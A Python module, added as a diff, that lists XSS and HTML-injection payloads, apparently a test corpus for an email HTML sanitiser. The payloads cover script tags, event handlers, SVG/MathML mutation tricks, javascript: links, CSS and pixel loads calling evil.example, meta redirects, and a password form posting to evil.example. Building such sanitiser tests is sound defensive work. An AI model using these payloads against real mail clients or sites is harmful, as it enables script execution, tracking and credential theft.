@@ -1,0 +1,147 @@
+"""Pieces of HTML with which a mail would act where it is read, by the ways they take.
+
+Each would run something, ask a stranger, send the reader elsewhere, or cover what is not its own.
+A stranger is `evil.example`; whatever runs calls `alert`.
+"""
+
+_DEEP = 380  # the cleaner still takes this as HTML; `_DEEPER` it shows as text
+_DEEPER = 3_000
+SCRIPTS = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\x0c>alert(1)</script\x0c>",
+    '<script type=module>import "https://evil.example/x.js"</script>',
+    "<<script>alert(1)//<</script>",
+    "<script>alert(1)",
+    "</body></html><script>alert(1)</script>",
+)
+HANDLERS = (
+    "<img src=x onerror=alert(1)>",
+    '<img src="x"onerror="alert(1)">',
+    "<img/src=x/onerror=alert(1)>",
+    "<p onmouseover=alert(1) style=font-size:40px>passi qui</p>",
+    "<body onload=alert(1)>",
+    "<body onpageshow=alert(1) onhashchange=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)></audio>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    '<div style="animation: x 1s" onanimationstart=alert(1)>x</div>',
+    "<a href=# tabindex=1 autofocus onfocus=alert(1)>x</a>",
+    "<table><td onclick=alert(1)>x</td></table>",
+    '<img src=x title="`" alt="`onerror=alert(1)`">',
+    "<x onwheel=alert(1) onpointerenter=alert(1)>ignoto</x>",
+)
+NAMESPACES = (
+    "<svg onload=alert(1)></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><script href=//evil.example/x.js /></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
+    "<svg><image href=//evil.example/x.png></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
+    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
+    "<math href=javascript:alert(1)>x</math>",
+    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></table>",
+    '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert()&gt;">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style>",
+    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style>",
+)
+REPARSED = (
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<template><template><img src=x onerror=alert(1)></template></template>",
+    "<template shadowrootmode=open><script>alert(1)</script></template>",
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
+    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
+    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
+    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
+    "<select><style></select><img src=x onerror=alert(1)></style></select>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<![CDATA[><img src=x onerror=alert(1)>]]>",
+    "<?xml version=1?><img src=x onerror=alert(1)>",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "<table><caption><img title='</caption></table><img src=x onerror=alert(1)>'></table>",
+    "<a title='&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;'>x</a>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<plaintext><script>alert(1)</script>",
+)
+LINKS = (
+    "<a href=javascript:alert(1)>si apra</a>",
+    "<a href=' \x01java\tscr\nipt:alert(1)'>si apra</a>",
+    "<a href='&#106;avascript&colon;alert(1)'>si apra</a>",
+    "<a href='JaVaScRiPt:alert(1)' target=_top>si apra</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>si apra</a>",
+    "<a href='vbscript:msgbox(1)'>si apra</a>",
+    "<a href='blob:https://evil.example/x'>si apra</a>",
+    "<a href='/desk/settings' target=_top>si apra</a>",
+    "<a href='//evil.example/x' ping=//evil.example/p>si apra</a>",
+    "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=x>",
+)
+STYLES = (
+    '<style>@import "//evil.example/x.css";</style>',
+    "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}p{font-family:x}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<p style='background:url(//evil.example/x.png)'>x</p>",
+    "<p style='b\\61ckground:u\\72l(//evil.example/x.png)'>x</p>",
+    "<p style='background-image:image-set(\"//evil.example/x.png\" 1x)'>x</p>",
+    "<p style='list-style:url(//evil.example/x.png)'>x</p>",
+    "<p style='width:expression(alert(1))'>x</p>",
+    "<p style='w/**/idth:exp/**/ression(alert(1))'>x</p>",
+    "<p style='behavior:url(//evil.example/x.htc);-moz-binding:url(//evil.example/x.xml)'>x</p>",
+    "<p style='position:fixed;inset:0;z-index:9;background-color:red'>Sessione scaduta</p>",
+    "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
+    "<p style=\"font-family:'x;background:url(//evil.example/y.png);'\">x</p>",
+)
+ELSEWHERE = (
+    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<meta http-equiv=Content-Security-Policy content='script-src * unsafe-inline'>",
+    "<base href=//evil.example/><a href=x>x</a><img src=x.png>",
+    "<form action=//evil.example/><input name=password type=password><button>Entri</button></form>",
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    "<isindex action=javascript:alert(1) type=image>",
+    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+    "<iframe src=javascript:parent.alert(1)></iframe>",
+    "<iframe src=//evil.example/></iframe>",
+    "<frameset><frame src=javascript:alert(1)></frameset>",
+    "<object data=//evil.example/x.swf></object>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src=javascript:alert(1)>",
+    "<applet code=x codebase=//evil.example/></applet>",
+    "<portal src=//evil.example/></portal><fencedframe src=//evil.example/></fencedframe>",
+)
+FETCHED = (
+    "<img src=//evil.example/x.png>",
+    "<img src=https://evil.example/pixel.gif width=1 height=1>",
+    "<img srcset='https://evil.example/x.png 1x' sizes=1px>",
+    "<picture><source srcset=https://evil.example/x.webp><img alt=x></picture>",
+    "<img lowsrc=//evil.example/x.png dynsrc=//evil.example/y.png>",
+    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
+    "<img src=cid:nessuno@evil.example>",
+    "<img src=' CID:nessuno@evil.example'>",
+    "<table background=https://evil.example/x.png><td background=//evil.example/>x</td></table>",
+    "<video poster=https://evil.example/x.png src=https://evil.example/x.mp4 autoplay></video>",
+    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
+    "<link rel=prefetch href=//evil.example/><link rel=dns-prefetch href=//evil.example>",
+    "<bgsound src=//evil.example/x.wav>",
+    "<track src=//evil.example/x.vtt><source src=//evil.example/x>",
+)
+NESTED = (
+    "<div>" * _DEEP + "<img src=x onerror=alert(1)>" + "</div>" * _DEEP,
+    "<div>" * _DEEPER + "<img src=x onerror=alert(1)>",
+    "<b>" * _DEEP + "<p>" * _DEEP + "<script>alert(1)</script>",
+    "<table><tr><td>" * 120 + "<svg onload=alert(1)>",
+    "<svg><g>" * 180 + "</svg><img src=x onerror=alert(1)>",
+)
+HOSTILE = (
+    *(*SCRIPTS, *HANDLERS, *NAMESPACES, *REPARSED, *LINKS),
+    *(*STYLES, *ELSEWHERE, *FETCHED, *NESTED),
+)
